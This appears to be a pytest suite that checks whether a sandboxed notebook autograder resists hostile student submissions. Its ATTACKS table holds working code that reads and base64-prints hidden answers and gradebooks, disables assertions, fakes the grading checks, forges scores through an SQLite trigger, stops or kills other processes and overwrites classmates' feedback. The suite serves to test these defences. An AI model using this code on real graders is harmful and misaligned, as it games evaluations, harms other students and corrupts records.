"""A class of honest and hostile phase-1 submissions graded together by the real pipeline
(sandboxed kernels, checks outside them).

Every attack is added twice: to the blank release (marks for no work?) and to the correct
notebook (does it hurt anyone, or the grader?). A hostile notebook must never score more than the
same notebook without the attack; honest classmates graded in the same batch keep full marks; the
course checkout, other students' outputs and the grader survive; nothing is left running.
"""
from __future__ import annotations

import copy
import subprocess

import nbformat
import pytest
from nbformat.v4 import new_code_cell

from autograder.checker import sandbox
from autograder.pipeline import GradeOptions, grade_class
from autograder.pipeline.coursedir import build_template
from autograder.reference_submissions import build
from conftest import REPO

pytestmark = pytest.mark.slow

MARK = "po-hostile-marker"
ATTACKS = {
    # read the answers and hidden checks, and print them (into feedback) or exec them
    "read-answers": f"""
import glob, os, base64, pathlib
# {MARK}
for pattern in ["/work/**/source/**/*.ipynb", "/**/autograder/checks/*.py", "/**/gradebook.db",
                os.path.expanduser("~/**/*.ipynb"), "../../../source/*/*.ipynb", "/tmp/**/*.db"]:
    for path in glob.glob(pattern, recursive=True)[:5]:
        print(path, base64.b64encode(pathlib.Path(path).read_bytes()[:4000]).decode())
""",
    # make failures disappear inside the kernel
    "hooks": """
ip = get_ipython()
ip.events.register("post_run_cell", lambda r: setattr(r, "error_in_exec", None))
ip.set_custom_exc((BaseException,), lambda *a, **k: None)
import ast
class NoAssert(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
ip.ast_transformers.append(NoAssert())
import builtins
builtins.AssertionError = type("AssertionError", (Exception,), {})
""",
    # answers that equal everything
    "always-equal": """
class Yes(str):
    def __eq__(self, o): return True
    def __ne__(self, o): return False
    __hash__ = str.__hash__
class YesDict(dict):
    def __eq__(self, o): return True
    def __getitem__(self, k): return Yes("x")
    def get(self, k, d=None): return Yes("x")
def _anything(*a, **k): return YesDict()
for _name in ["QUERY_RU", "STATEMENTS", "CAN_CHANGE"]:
    globals()[_name] = YesDict()
for _name in ["read_units_per_second", "choose_deployment", "index_facts", "inventory", "cleanup_candidates"]:
    globals()[_name] = _anything
""",
    # patch the checks: an import hook that serves no-op checks, and sys.modules entries
    "fake-checks": """
import sys, types, importlib.abc, importlib.machinery
class _Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path, target=None):
        if name.startswith("autograder"):
            return importlib.machinery.ModuleSpec(name, self, is_package=True)
    def create_module(self, spec):
        m = types.ModuleType(spec.name); m.__path__ = []
        m.__getattr__ = lambda attr: (lambda *a, **k: None)
        return m
    def exec_module(self, module): pass
sys.meta_path.insert(0, _Finder())
for n in ["autograder", "autograder.checks", "autograder.checks.phase1", "autograder.checks.common"]:
    sys.modules[n] = __import__(n)
""",
    # blind the log and ledger checks, forge the score
    "blind-admin": f"""
import os, threading, time, httpx, sqlite3, glob
host = os.environ.get("PINECONE_OPS_HOST", "")
os.environ["ALL_PROXY"] = os.environ["HTTP_PROXY"] = "http://127.0.0.1:9"
def _loop():
    for _ in range(2000):
        for call in (("POST", "/_ops/reset"), ("PATCH", "/_ops/options")):
            try:
                httpx.request(call[0], host + call[1], json={{"meter_scale": 0.001}}, timeout=1, trust_env=False)
            except Exception:
                pass
        time.sleep(0.01)
threading.Thread(target=_loop, daemon=True).start()
for db in glob.glob("/**/gradebook.db", recursive=True):
    con = sqlite3.connect(db)
    con.execute("CREATE TRIGGER IF NOT EXISTS t AFTER INSERT ON grade BEGIN UPDATE grade SET auto_score = 99; END")
    con.commit()
# {MARK}
""",
    # outlive the notebook and hurt the grader and classmates
    "daemons-and-signals": f"""
import os, signal, subprocess, glob
subprocess.Popen(["setsid", "-f", "sh", "-c", "sleep 900 # {MARK}"])
for path in glob.glob("/**/feedback/**/*.html", recursive=True) + glob.glob("/**/grades.csv", recursive=True):
    try:
        open(path, "w").write("pwned")
    except OSError:
        pass
for pid in range(2, 40000):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGSTOP)
        except (ProcessLookupError, PermissionError):
            pass
try:
    import psutil
    psutil.Process().parent().parent().kill()
except Exception:
    pass
for pid in range(2, 40000):
    try:
        os.kill(pid, signal.SIGCONT)
    except (ProcessLookupError, PermissionError):
        pass
""",
    "write-course": f"""
import os, glob, pinecone_ops
root = os.path.dirname(os.path.dirname(pinecone_ops.__file__))
for target in [os.path.join(root, "autograder", "checks", "phase1.py"), os.path.join(root, "nbgrader_config.py"),
               pinecone_ops.__file__]:
    try:
        with open(target, "a") as fh:
            fh.write("\\n# {MARK}\\n")
        print("WROTE", target)
    except OSError as exc:
        print("refused", type(exc).__name__)
""",
}


#: Attacks also added to a correct notebook: they must cost it nothing (the others may well break
#: the student's own work: resetting one's own Pinecone or poisoning one's own proxy settings does).
SOLVED = ("read-answers", "daemons-and-signals")


def _with_attack(nb, code):
    nb = copy.deepcopy(nb)
    at = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("solution"))
    nb.cells.insert(at, new_code_cell(code.strip("\n")))
    return nb


def _leftovers() -> list[str]:
    ps = subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True).stdout
    return [line for line in ps.splitlines() if MARK in line and "ps -eo" not in line]


def _tree_state() -> str:
    return subprocess.run(["git", "status", "--porcelain", "--untracked-files=all", "--", "autograder", "source",
                           "release", "pinecone_ops", "nbgrader_config.py"],
                          cwd=REPO, capture_output=True, text=True).stdout


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    if sandbox.probe():
        pytest.skip(f"no sandbox here: {sandbox.probe()}")
    out, subs = tmp_path_factory.mktemp("out"), tmp_path_factory.mktemp("subs")
    template = build_template(REPO, "phase1", out / ".grading")
    source = nbformat.read(template.source("phase1"), as_version=4)
    blank = nbformat.read(template.release("phase1"), as_version=4)
    good = build.solved(source, blank)
    cases = {"honest-a": good, "honest-b": good, "blank": blank}
    for name, code in ATTACKS.items():
        cases[f"{name}-blank"] = _with_attack(blank, code)
    for name in SOLVED:
        cases[f"{name}-solved"] = _with_attack(good, ATTACKS[name])
    for student, nb in cases.items():
        (subs / student / "phase1").mkdir(parents=True)
        nbformat.write(nb, subs / student / "phase1" / "phase1.ipynb")
    before = _tree_state()
    opts = GradeOptions(course=REPO, out=out, workers=2, cell_timeout=30, notebook_timeout=240, progress=False)
    results = {r.student: r for r in grade_class("phase1", subs, opts)}
    return {"results": results, "max": build.auto_max(template.cells), "out": out,
            "tree_before": before, "tree_after": _tree_state()}


def test_no_attack_earns_marks_and_honest_classmates_keep_theirs(batch):
    r, top = batch["results"], batch["max"]
    assert r["honest-a"].score == r["honest-b"].score == top, (r["honest-a"].reasons, r["honest-b"].reasons)
    assert r["blank"].score == 0
    for name in ATTACKS:
        assert r[f"{name}-blank"].score <= r["blank"].score, (name, r[f"{name}-blank"].cells)
        assert r[f"{name}-blank"].status == "graded", (name, r[f"{name}-blank"].reasons)


def test_attacks_that_do_not_touch_graded_work_cost_nothing(batch):
    r, top = batch["results"], batch["max"]
    for name in SOLVED:
        assert r[f"{name}-solved"].score == top, (name, r[f"{name}-solved"].reasons)


def test_nothing_outside_the_sandbox_changed_or_leaked(batch):
    assert batch["tree_after"] == batch["tree_before"]
    out = batch["out"]
    grades = (out / "grading" / "grades.csv").read_text()
    assert "pwned" not in grades and "honest-a" in grades
    for page in (out / "feedback").glob("*/phase1/*.html"):
        text = page.read_text()
        assert text.strip() != "pwned" and text.startswith("<!DOCTYPE"), page   # not overwritten
        assert "check_query_ru" not in text and "BEGIN HIDDEN" not in text, page
    assert _leftovers() == []
